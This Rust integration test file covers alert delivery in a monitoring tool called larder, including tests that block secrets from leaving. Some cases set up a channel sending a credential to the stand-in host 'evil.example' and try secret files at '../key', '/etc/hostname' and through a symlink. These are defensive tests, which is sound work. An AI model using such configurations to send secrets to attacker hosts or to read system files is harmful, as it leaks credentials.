//! Alerts, from a service that is down to those who are told.

use std::time::Duration;

use serde_json::Value;

use crate::support::{HttpReceiver, MailReceiver, Manner, Project, Tls, free_address, until};

/// A project whose service is down, with these channels.
fn project(channels: &str) -> Project {
    let down = free_address();
    Project::new(&format!(
        "monitor {{\n    dependencies \"never\"\n    check \"api\" tcp=\"{down}\" every=\"1s\"\n}}\nalerts {{\n{channels}\n}}"
    ))
}

fn rules(receiver: &HttpReceiver, pointer: &str) -> Vec<String> {
    let rule = |body: &Value| body.pointer(pointer).and_then(Value::as_str).unwrap_or_default().to_owned();
    receiver.received().iter().map(|received| rule(&received.body)).collect()
}

#[test]
fn a_service_that_is_down_is_told_by_each_channel_as_it_wants_it() {
    let [slack, pagerduty, webhook] = [(); 3].map(|()| HttpReceiver::start(Manner::Takes));
    let certificate = tempfile::NamedTempFile::new().expect("a file");
    let mail = MailReceiver::start(Tls::FirstByte, certificate.path());
    let mut project = project(&format!(
        "slack env=\"HOOK\"\npagerduty file=\"key\" url=\"{}\"\nwebhook \"{}\" {{ authorization env=\"LARDER_TOKEN_HOOK\"; }}\n\
         email \"ops@acme.example\" \"b@acme.example\" from=\"larder@acme.example\" {{\n\
         smtp \"smtps://localhost:{}\"; user \"larder\"; password env=\"MAIL\"\n}}",
        pagerduty.url(),
        webhook.url(),
        mail.port()
    ));
    project.write("key", "R0UT3\n");
    project.set("HOOK", &slack.url()).set("LARDER_TOKEN_HOOK", "Bearer t0k3n").set("MAIL", "s3cret");
    project.set("LARDER_ALLOW_TOKEN_ENV", &format!("MAIL@localhost:{}", mail.port()));
    project.set("SSL_CERT_FILE", &certificate.path().display().to_string());
    let monitor = project.start("production");
    let all = || {
        !mail.conversations().is_empty() && [&slack, &pagerduty, &webhook].iter().all(|one| !one.received().is_empty())
    };
    assert!(until(Duration::from_secs(20), all), "{:?}", project.read(".larder/monitor/production.json"));
    let first = |receiver: &HttpReceiver| receiver.received()[0].clone();
    assert_eq!(first(&slack).body["text"], ":rotating_light: *critical*: api in shop (production)");
    let event = first(&pagerduty).body;
    assert_eq!((&event["routing_key"], &event["dedup_key"]), (&"R0UT3".into(), &"api-service".into()));
    assert_eq!((&event["event_action"], &event["payload"]["severity"]), (&"trigger".into(), &"critical".into()));
    let hook = first(&webhook);
    assert!(hook.head.contains("authorization: Bearer t0k3n\r\n"), "{}", hook.head);
    assert_eq!((&hook.body["source"], &hook.body["alert"]["rule"]), (&"larder-monitor".into(), &"service-down".into()));
    assert_eq!(hook.body["timestamp"], hook.body["alert"]["time"]);
    let said = &mail.conversations()[0];
    assert!(said.starts_with("TLS\nEHLO"), "{said}");
    // A NUL, the name, a NUL, the password.
    assert!(said.contains("AUTH PLAIN AGxhcmRlcgBzM2NyZXQ=\n"), "{said}");
    for line in [
        "MAIL FROM:<larder@acme.example>",
        "RCPT TO:<ops@acme.example>",
        "RCPT TO:<b@acme.example>",
        "Subject: [critical] shop (production): api\n",
        "Rule:        service-down",
    ] {
        assert!(said.contains(line), "{line}\n{said}");
    }
    monitor.stop();
    // Neither the state nor the list has a secret.
    let state = project.read(".larder/monitor/production.json");
    for secret in ["R0UT3", "t0k3n", "s3cret", "/hook"] {
        assert!(!state.contains(secret), "{state}");
    }
    let listed = project.json(&["--env", "production", "alerts", "list"], 0);
    assert_eq!(
        (&listed["alerts"][0]["rule"], &listed["alerts"][0]["waiting"]),
        (&"service-down".into(), &serde_json::json!([]))
    );
}

#[test]
fn a_dead_and_a_slow_channel_hold_up_no_other_and_the_dead_one_is_told() {
    let slack = HttpReceiver::start(Manner::Refuses(410));
    let pagerduty = HttpReceiver::start(Manner::Slow(Duration::from_secs(8)));
    let webhook = HttpReceiver::start(Manner::Takes);
    let mut project = project(&format!(
        "slack env=\"HOOK\"\npagerduty env=\"LARDER_TOKEN_KEY\" url=\"{}\"\nwebhook env=\"OTHER\"",
        pagerduty.url()
    ));
    project.set("HOOK", &slack.url()).set("LARDER_TOKEN_KEY", "k").set("OTHER", &webhook.url());
    let monitor = project.start("development");
    monitor.wait_for("api", "unhealthy");
    let raised = std::time::Instant::now();
    assert!(until(Duration::from_secs(2), || !webhook.received().is_empty()));
    assert!(webhook.received()[0].at.saturating_duration_since(raised) < Duration::from_secs(1));
    assert!(pagerduty.received().is_empty());
    // A second and five seconds later the dead one was tried three times.
    assert!(until(Duration::from_secs(15), || rules(&webhook, "/alert/rule").contains(&"channel-dead".to_owned())));
    let told = webhook.received().into_iter().find(|received| received.body["alert"]["rule"] == "channel-dead");
    let told = told.map(|received| received.body["alert"]["message"].to_string()).unwrap_or_default();
    assert!(told.contains("it takes no alerts: status 410: said"), "{told}");
    assert!(until(Duration::from_secs(20), || pagerduty.received().len() == 2));
    assert!(monitor.ask("/metrics").1.contains("larder_channel_up{channel=\"slack\"} 0\n"));
    monitor.kill();

    // The next monitor still has what was not taken, and does not repeat what was told.
    slack.set(Manner::Takes);
    let before = webhook.received().len();
    let listed = project.json(&["--env", "development", "alerts", "list"], 0);
    let waiting: Vec<&Value> =
        listed["alerts"].as_array().into_iter().flatten().map(|alert| &alert["waiting"]).collect();
    assert!(waiting.contains(&&serde_json::json!(["slack"])), "{listed}");
    let _monitor = project.start("development");
    assert!(until(Duration::from_secs(40), || !slack.received().is_empty()), "it is tried again");
    assert_eq!(slack.received()[0].body["attachments"][0]["fields"][2]["value"], "api");
    assert_eq!(webhook.received().len(), before);
}

#[test]
fn mail_is_encrypted_or_not_sent() {
    let certificate = tempfile::NamedTempFile::new().expect("a file");
    let trusted = certificate.path().display().to_string();
    for (tls, scheme, is_sent) in
        [(Tls::AfterCommand, "smtp", true), (Tls::Never, "smtp", false), (Tls::AfterCommand, "smtps", false)]
    {
        let mail = MailReceiver::start(tls, certificate.path());
        let mut project = Project::new("");
        project.set("LARDER_ALERTS_SMTP", &format!("{scheme}://larder:s3cret@localhost:{}", mail.port()));
        project.set("LARDER_ALERTS_EMAIL_TO", "ops@acme.example").set("LARDER_ALERTS_EMAIL_FROM", "l@acme.example");
        project.set("SSL_CERT_FILE", &trusted);
        let tested = project.json(&["alerts", "test"], i32::from(!is_sent));
        assert_eq!(tested["channels"][0]["delivered"], is_sent, "{tested}");
        assert!(until(Duration::from_secs(5), || !mail.conversations().is_empty()));
        let said = mail.conversations().concat();
        let before_tls = said.split("TLS\n").next().unwrap_or_default().to_owned();
        assert!(!before_tls.contains("AUTH") && !before_tls.contains("MAIL"), "{said}");
        assert_eq!(said.contains("this is a test"), is_sent, "{said}");
    }
    // A certificate that nobody vouches for.
    let mail = MailReceiver::start(Tls::FirstByte, certificate.path());
    let other = tempfile::NamedTempFile::new().expect("a file");
    MailReceiver::start(Tls::FirstByte, other.path());
    let mut project = Project::new("");
    project.set("LARDER_ALERTS_SMTP", &format!("smtps://localhost:{}", mail.port()));
    project.set("LARDER_ALERTS_EMAIL_TO", "ops@acme.example").set("LARDER_ALERTS_EMAIL_FROM", "l@acme.example");
    project.set("SSL_CERT_FILE", &other.path().display().to_string());
    let tested = project.json(&["alerts", "test", "email"], 1);
    assert!(tested["channels"][0]["error"].as_str().is_some_and(|error| error.contains("certificate")), "{tested}");
}

#[test]
fn the_channels_are_tried_at_once_and_each_is_named() {
    let webhook = HttpReceiver::start(Manner::Takes);
    let mut project = Project::new("alerts { slack env=\"HOOK\"; }");
    project.set("HOOK", "http://127.0.0.1:1/x").set("LARDER_ALERTS_WEBHOOK", &webhook.url());
    project.set("LARDER_ALERTS_WEBHOOK_AUTHORIZATION", "Basic eA==");
    let tested = project.json(&["alerts", "test"], 1);
    let channels = &tested["channels"];
    assert_eq!((&channels[0]["channel"], &channels[0]["delivered"]), (&"slack".into(), &false.into()));
    assert_eq!((&channels[1]["channel"], &channels[1]["delivered"]), (&"webhook".into(), &true.into()));
    assert!(webhook.received()[0].head.contains("authorization: Basic eA==\r\n"));
    assert_eq!(project.run(&["alerts", "test", "pagerduty"]).status.code(), Some(2));
    assert_eq!(project.run(&["alerts", "test", "webhook"]).status.code(), Some(0));
    // What is no URL may be another secret.
    project.set("HOOK", "xyzzy");
    let out = project.run(&["alerts", "test"]);
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.code() == Some(2) && said.contains("`HOOK`") && !said.contains("xyzzy"), "{said}");
}

#[test]
fn a_variable_is_sent_only_where_this_user_agreed_to() {
    let receiver = HttpReceiver::start(Manner::Takes);
    let url = receiver.url();
    let host = url.trim_start_matches("http://").split('/').next().unwrap_or_default().to_owned();
    let mail = "email \"a@b\" from=\"c@d\" { smtp \"smtps://evil.example\"; user \"u\"; password env=\"CLOUD_KEY\"; }";
    for (channel, pair) in [
        (format!("webhook \"{url}\" {{ authorization env=\"CLOUD_KEY\"; }}"), format!("CLOUD_KEY@{host}")),
        ("webhook env=\"HOOK\" { authorization env=\"CLOUD_KEY\"; }".to_owned(), format!("CLOUD_KEY@{host}")),
        (format!("pagerduty env=\"CLOUD_KEY\" url=\"{url}\""), format!("CLOUD_KEY@{host}")),
        (format!("pagerduty env=\"LARDER_ALERTS_PAGERDUTY\" url=\"{url}\""), format!("LARDER_ALERTS_PAGERDUTY@{host}")),
        (mail.to_owned(), "CLOUD_KEY@evil.example".to_owned()),
        (mail.replace("evil.example", "evil.example:2525"), "CLOUD_KEY@evil.example:2525".to_owned()),
        ("pagerduty env=\"CLOUD_KEY\"".to_owned(), "CLOUD_KEY@events.pagerduty.com".to_owned()),
    ] {
        let mut project = Project::new(&format!("alerts {{ {channel}; }}"));
        project.set("CLOUD_KEY", "s3cret").set("HOOK", &url);
        if pair.starts_with("LARDER_ALERTS_PAGERDUTY") {
            project.set("LARDER_ALERTS_PAGERDUTY", "s3cret");
        }
        for words in [&["alerts", "test"][..], &["--once"]] {
            let refused = project.json(words, 1);
            let error = &refused["error"];
            assert_eq!(error["code"], "larder::monitor::secret_not_allowed", "{refused}");
            let help = error["help"].as_str().unwrap_or_default();
            assert!(help.contains(&format!("larder login --allow {pair}`,")), "{channel}: {help}");
            assert!(help.contains("LARDER_ALLOW_TOKEN_ENV") && !refused.to_string().contains("s3cret"), "{refused}");
        }
        assert!(receiver.received().is_empty());
        // What the user agreed to, in the environment or once for all, is sent.
        if pair.ends_with(&host) {
            project.set("LARDER_ALLOW_TOKEN_ENV", &pair);
            project.json(&["alerts", "test"], 0);
            project.set("LARDER_ALLOW_TOKEN_ENV", "").agree(&pair);
            project.json(&["alerts", "test"], 0);
            assert_eq!(receiver.take().len(), 2);
        }
    }
}

#[test]
fn a_secret_s_file_lies_in_the_project_or_in_the_configuration() {
    let receiver = HttpReceiver::start(Manner::Takes);
    for (file, status) in
        [("key", 0), ("~/.config/larder/key", 0), ("../key", 1), ("~/key", 1), ("/etc/hostname", 1), ("out", 1)]
    {
        for channel in [
            format!("pagerduty file=\"{file}\" url=\"{}\"", receiver.url()),
            format!("webhook file=\"{file}\""),
            format!("slack file=\"{file}\""),
        ] {
            let project = Project::new(&format!("alerts {{ {channel}; }}"));
            for place in ["key", "../key", "../home/key", "../home/.config/larder/key"] {
                project.write(place, &format!("{}\n", receiver.url()));
            }
            std::os::unix::fs::symlink("../key", project.path("out")).expect("a link");
            let tested = project.json(&["alerts", "test"], status);
            assert_eq!(receiver.take().len(), usize::from(status == 0), "{channel}: {tested}");
            if status == 1 {
                assert_eq!(tested["error"]["code"], "larder::monitor::secret_not_allowed", "{tested}");
            }
        }
    }
}
